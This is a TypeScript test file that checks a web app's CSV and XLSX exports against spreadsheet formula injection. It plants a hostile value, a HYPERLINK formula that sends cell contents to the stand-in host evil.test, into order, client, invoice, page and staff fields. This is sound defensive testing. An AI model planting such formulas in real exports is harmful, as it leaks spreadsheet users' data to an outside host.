import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ANNA, loggedIn } from '../test-support/checkout-fixtures.js';
import { staffClient } from '../test-support/staff-client.js';
import { createTestApp, type TestApp } from '../test-support/test-app.js';
import { TestClient } from '../test-support/test-client.js';

/**
 * Issue 22 item 2: every CSV export, buyer's and back-office's, with hostile text stored in the
 * fields it shows. No text cell may begin with = + - @, a tab or a CR (OWASP: they get a leading
 * apostrophe); amounts and counts stay plain numbers, negative ones too. The XLSX exports keep
 * the same text as text cells.
 */
const HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Ava")';

let t: TestApp;
let buyer: TestClient;
let admin: TestClient;

/** Each route, and the hostile text planted in a field it shows (decided in beforeAll). */
const ROUTES: { route: string; planted: string; buyer?: true }[] = [
  { route: '/api/orders/export.csv', planted: `${HOSTILE} (tellija)`, buyer: true },
  { route: '/api/invoices/export.csv', planted: `-${HOSTILE} (arve)`, buyer: true },
  { route: '/api/admin/orders/export.csv', planted: `@${HOSTILE} (klient)` },
  { route: '/api/admin/invoices/export.csv', planted: `@${HOSTILE} (klient)` },
  { route: '/api/admin/clients/export.csv', planted: `@${HOSTILE} (klient)` },
  { route: '/api/admin/feedback/export.csv', planted: `${HOSTILE} (sõnum)` },
  { route: '/api/admin/pages/export.csv', planted: `+${HOSTILE} (leht)` },
  { route: '/api/admin/news/export.csv', planted: `\r${HOSTILE} (uudis)` },
  { route: '/api/admin/staff/export.csv', planted: `${HOSTILE} (töötaja)` },
  { route: '/api/admin/audit/export.csv', planted: `${HOSTILE} (töötaja)` },
  { route: '/api/admin/products/export.csv', planted: `=${HOSTILE} (toode)` },
];

beforeAll(async () => {
  t = await createTestApp({ TEST_BANK_ENABLED: 'false' });
  const user = await t.db
    .selectFrom('users')
    .select(['id', 'b2b_client_id'])
    .where('email', '=', ANNA)
    .executeTakeFirstOrThrow();
  // The orderer's name as the order keeps it.
  await t.db
    .updateTable('orders')
    .set({ placed_by: `${HOSTILE} (tellija)` })
    .where('b2b_client_id', '=', user.b2b_client_id)
    .execute();
  await t.db
    .updateTable('b2b_clients')
    .set({ name: `@${HOSTILE} (klient)` })
    .where('id', '=', user.b2b_client_id)
    .execute();
  const invoice = await t.db
    .selectFrom('invoices')
    .select('id')
    .where('b2b_client_id', '=', user.b2b_client_id)
    .orderBy('id', 'desc')
    .executeTakeFirstOrThrow();
  await t.db
    .updateTable('invoices')
    .set({ number: `-${HOSTILE} (arve)` })
    .where('id', '=', invoice.id)
    .execute();
  const page = await t.db.selectFrom('pages').select('id').orderBy('id').executeTakeFirstOrThrow();
  await t.db
    .updateTable('pages')
    .set({ title: `+${HOSTILE} (leht)` })
    .where('id', '=', page.id)
    .execute();
  const news = await t.db.selectFrom('news').select('id').orderBy('id').executeTakeFirstOrThrow();
  await t.db
    .updateTable('news')
    .set({ title: `\r${HOSTILE} (uudis)` })
    .where('id', '=', news.id)
    .execute();

  const product = await t.db.selectFrom('products').select('id').orderBy('id').executeTakeFirstOrThrow();
  await t.db
    .updateTable('products')
    .set({ title: `=${HOSTILE} (toode)` })
    .where('id', '=', product.id)
    .execute();

  const visitor = new TestClient(t.app);
  await visitor.page();
  const sent = await visitor.api('POST', '/api/feedback', {
    feedback: { name: 'Liis Lepp', email: 'liis@firma.test', phone: '', message: `${HOSTILE} (sõnum)` },
  });
  expect(sent.statusCode, sent.body).toBe(200);

  buyer = await loggedIn(t.app, ANNA);
  const staff = await staffClient(t, 'admin');
  // The admin's own sign-in is in the audit log under the name exported there.
  await t.db
    .updateTable('staff')
    .set({ name: `${HOSTILE} (töötaja)` })
    .where('id', '=', staff.staff.id)
    .execute();
  admin = staff;
}, 60_000);

afterAll(async () => {
  await t.close();
});

/** A CSV body's cells (quoted fields with ; " CR LF inside, '""' for a quote). */
function csvCells(body: string): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^;\r\n"]*))(;|\r\n)/gy;
  let row: string[] = [];
  let match: RegExpExecArray | null;
  field.lastIndex = 1;
  while ((match = field.exec(body)) !== null) {
    row.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ''));
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
    if (field.lastIndex === body.length) break;
  }
  expect(field.lastIndex, 'the whole body parses as CSV').toBe(body.length);
  return rows;
}

/** A plain number as the exports write amounts and counts: '-1234,56', '3'. */
const NUMBER = /^-?\d+(,\d{2})?$/;

describe('every CSV export neutralises formulas', () => {
  it('lists every back-office CSV export the app has', () => {
    const exports = t.app.staffRoutes
      .filter((route) => route.method === 'GET' && route.url.endsWith('/export.csv'))
      .map((route) => route.url)
      .sort();
    expect(exports).toEqual(
      ROUTES.map((r) => r.route)
        .filter((route) => route.startsWith('/api/admin/'))
        .sort(),
    );
  });

  it.each(ROUTES)('$route', async ({ route, planted, buyer: isBuyer }) => {
    const response = await (isBuyer ? buyer : admin).api('GET', route);
    expect(response.statusCode, response.body).toBe(200);
    const cells = csvCells(response.body).flat();
    // The planted text is there (alone or leading its cell), made inert.
    expect(cells.filter((cell) => cell.startsWith(`'${planted}`)).length).toBeGreaterThan(0);
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));
    expect(live).toEqual([]);
  });

  it.each([
    ['/api/orders/export.xlsx', `${HOSTILE} (tellija)`],
    ['/api/invoices/export.xlsx', `-${HOSTILE} (arve)`],
  ])('%s keeps the hostile text as a text cell, unchanged', async (route, planted) => {
    const response = await buyer.api('GET', route);
    expect(response.statusCode, response.body).toBe(200);
    const cells = (await readSheet(response.rawPayload)).flat();
    expect(cells).toContain(planted);
  });
});
